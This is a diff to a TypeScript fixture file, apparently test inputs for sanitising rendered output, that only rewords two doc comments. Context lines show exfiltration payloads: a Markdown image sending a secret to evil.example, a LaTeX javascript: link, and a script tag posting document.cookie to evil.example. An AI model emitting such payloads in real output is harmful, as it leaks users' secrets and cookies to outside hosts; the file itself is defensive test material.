@@ -1,4 +1,4 @@
-/** What a renderer of Markdown would load, run, or hide the rest of an answer with. */
+/** Texts that a renderer of Markdown would load, run, or hide the rest of an answer with. */
 export const markdown = {
   image: '![logo](https://evil.example/p.png?d=SECRET)',
   'image without a text': '![](https://evil.example/?q=)',
@@ -83,7 +83,7 @@ export const markdown = {
   LaTeX: String.raw`$$\href{javascript:alert(1)}{x}$$ \includegraphics{https://evil.example/a.png}`,
 } as const satisfies Readonly<Record<string, string>>;
 
-/** What a renderer of HTML would load or run. */
+/** Texts that a renderer of HTML would load or run. */
 export const html = {
   script: '<script>fetch("https://evil.example?"+document.cookie)</script>',
   image: '<img src=https://evil.example/a.png>',
